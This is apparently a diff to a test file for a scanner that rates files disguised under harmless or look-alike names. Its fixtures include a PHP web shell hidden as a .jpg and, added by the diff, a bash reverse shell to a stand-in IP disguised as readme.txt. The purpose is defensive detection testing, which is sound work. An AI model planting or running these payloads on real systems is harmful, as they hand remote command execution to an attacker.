@@ -22,12 +22,12 @@ test('everyday names are nothing', () => {
 test('under the names of others', () => {
 	expect(
 		ask({
-			'/var/www/html/logo.png': program, '/home/ann/doc.pdf': script, '/tmp/a.log': script, '/var/www/up/x.jpg': '<?php system($_GET["c"]);', '/usr/share/pixmaps/t.gif': { content: elf }, '/home/ann/bin/[kworker]': program,
+			'/var/www/html/logo.png': program, '/home/ann/doc.pdf': script, '/tmp/a.log': script, '/usr/share/doc/readme.txt': { content: '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4 0>&1\n', mode: 0o755 }, '/usr/share/doc/own.txt': script, '/var/www/up/x.jpg': '<?php system($_GET["c"]);', '/usr/share/pixmaps/t.gif': { content: elf }, '/home/ann/bin/[kworker]': program,
 			'/usr/local/bin/kworker': program, '/tmp/sshd': program, '/var/lib/misc/crond': program, '/usr/sbin/sysIogd': program, '/usr/bin/1s': program, '/usr/sbin/sytsemd': program, '/home/ann/sshd': program, '/dev/shm/kthreadd': { content: elf, mode: 0o700 },
 		}),
 	).toEqual([
 		'high /dev/shm/kthreadd', 'medium /home/ann/bin/[kworker]', 'high /home/ann/doc.pdf', 'low /home/ann/sshd', 'medium /tmp/a.log', 'high /tmp/sshd', 'high /usr/bin/1s', 'high /usr/local/bin/kworker', 'high /usr/sbin/sysIogd', 'high /usr/sbin/sytsemd',
-		'high /usr/share/pixmaps/t.gif', 'high /var/lib/misc/crond', 'high /var/www/html/logo.png', 'high /var/www/up/x.jpg',
+		'low /usr/share/doc/own.txt', 'critical /usr/share/doc/readme.txt', 'high /usr/share/pixmaps/t.gif', 'high /var/lib/misc/crond', 'high /var/www/html/logo.png', 'high /var/www/up/x.jpg',
 	]);
 });
 test('names of kernel threads', () => {
